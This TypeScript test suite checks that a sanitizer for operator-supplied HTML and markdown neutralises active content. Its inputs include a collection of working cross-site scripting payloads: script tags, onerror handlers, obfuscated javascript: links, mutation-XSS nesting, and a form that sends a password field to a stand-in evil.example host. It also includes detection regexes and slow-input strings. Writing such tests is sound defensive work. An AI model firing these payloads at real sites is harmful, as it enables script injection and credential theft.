import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { expectLinear } from '#testing/linear.ts';
import { cleanOperatorText } from './clean-html.ts';

const tags = /<(script|iframe|object|embed|svg|math|style|form|input|link|meta|base|template|noscript)\b/i;
const handlers = /<[a-z][^>]*\son\w+\s*=/i;
const addresses = /(?:href|src|srcset|poster|action)="[^"]*(?:javascript|vbscript)|url\(|position\s*:/i;

/** Whether HTML could run, load or cover anything. Quoted text is not a tag. */
function isActive(html: string): boolean {
  const unquoted = html.replace(/="[^"<>]*"/g, '=""');
  return tags.test(unquoted) || handlers.test(unquoted) || addresses.test(html);
}

describe('HTML of an operator', () => {
  test.each([
    '<p>Hello <b>world</b></p>',
    '<h1 style="color:red">Prices</h1>',
    '<a href="https://hub.example/docs" target="_blank" rel="noopener noreferrer">docs</a>',
    '<table><tr><td colspan="2">1</td></tr></table>',
    '<img src="https://hub.example/a.png" alt="a" />',
  ])('%s stays as it is', (html) => expect(cleanOperatorText(html)).toBe(html));

  test.each([
    '<script>alert(1)</script>',
    '<p><script src=//evil.example></script></p>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action=//evil.example><input name=password></form>',
    '<div style="position:fixed;inset:0;background:url(//evil.example)">x</div>',
    '<base href=//evil.example>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<style>@import "//evil.example";</style>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<!--><script>alert(1)</script>-->',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p onclick=alert(1) style="background:url(javascript:alert(1))">x</p>',
    `<p>${'<b>'.repeat(5000)}`,
  ])('%s does nothing any more', (html) => {
    const clean = cleanOperatorText(html);
    expect(isActive(clean), clean).toBe(false);
    expect(cleanOperatorText(clean)).toBe(clean);
  });
});

describe('any other text of an operator', () => {
  test.each([
    'Maintenance at 10:00 & 12:00, 1 < 2 > 0',
    '# Hello\n<b>world</b>',
    'https://docs.example/?a=1&b=2',
    '[docs](https://docs.example) and [mail](mailto:a@b.example) and [here](/about)',
    '> quoted\n\n`a < b`',
    '[a](page?x=1&y=2) [b](../a&b/c:d) [c](#e:f) ![d](//cdn.example/a:b.png) [e](https://a.example:81/?b&c;)',
  ])('%s stays as it is', (text) => expect(cleanOperatorText(text)).toBe(text));

  test.each([
    ['x <script>alert(1)</script>', 'x &lt;script>alert(1)&lt;/script>'],
    ['x <img src=x onerror=alert(1)>', 'x &lt;img src=x onerror=alert(1)>'],
    ['[x](javascript:alert(1))', '[x](unsafe:alert(1))'],
    ['[x]( JavaScript&colon;alert(1))', '[x]( unsafe:&colon;alert(1))'],
    ['[x](&#106;avascript:alert(1))', '[x](unsafe:&#106;avascript:alert(1))'],
    ['[x](&Tab;javascript:alert(1))', '[x](unsafe:&Tab;javascript:alert(1))'],
    ['[x](javascript\\:alert(1))', '[x](unsafe:\\:alert(1))'],
    ['![x](data:text/html,x)', '![x](unsafe:text/html,x)'],
    ['[x](< javascript:alert(1)>)', '[x](< unsafe:alert(1)>)'],
    ['[x](<javascript:alert(1)>)', '[x](&lt;unsafe:alert(1)>)'],
    ['<b>x</b> [x](javascript:alert(1))', '<b>x</b> [x](unsafe:alert(1))'],
    ['<video poster="javascript:alert(1)"></video>', '<video></video>'],
    ['[x]: data:text/html,x', '[x]: unsafe:text/html,x'],
    ['<i-am-html>[x](javascript:alert(1))', '[x](unsafe:alert(1))'],
    ['</>](x<', '](x&lt;'],
  ])('%s', (text, clean) => {
    expect(cleanOperatorText(text)).toBe(clean);
    expect(cleanOperatorText(clean)).toBe(clean);
  });

  test.each([']( ', '](', ' ', '](<', '](&#', ']:\n', '](<<j', '](javascript:'])(
    'made to be slow to clean, of %j, is not',
    (piece) => expectLinear(140_000, (size) => cleanOperatorText(`](${piece.repeat(size / piece.length)}`)),
  );

  test('has nothing active in it, for any input', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '<script',
      '</',
      'script',
      ' onload=',
      'x',
      '"',
      '<img',
      '<!--',
      '-->',
      '&',
      '](',
      'javascript:',
      'javascript',
      '&colon;',
      '&#58;',
      '\\:',
      ']:',
      '<b>',
      '\n',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
        const clean = cleanOperatorText(pieces.join(''));
        expect(isActive(clean), clean).toBe(false);
        expect(cleanOperatorText(clean)).toBe(clean);
      }),
      { numRuns: 500 },
    );
  });
});
